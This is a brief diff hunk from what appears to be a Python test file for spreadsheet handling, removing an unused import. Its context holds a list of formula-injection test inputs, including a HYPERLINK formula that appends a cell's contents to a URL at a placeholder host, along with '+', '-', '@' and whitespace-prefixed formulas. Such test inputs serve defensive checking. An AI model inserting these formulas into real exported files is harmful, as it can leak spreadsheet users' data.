@@ -9,7 +9,7 @@ from pathlib import Path
 import openpyxl
 import python_calamine
 
-from tests.hostile import sheet_xml, write_csv
+from tests.hostile import sheet_xml
 
 NICKNAMES = ['=HYPERLINK("http://x.invalid/?"&A2,"点")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
              "=1+1", "http://t.cn/abc"]
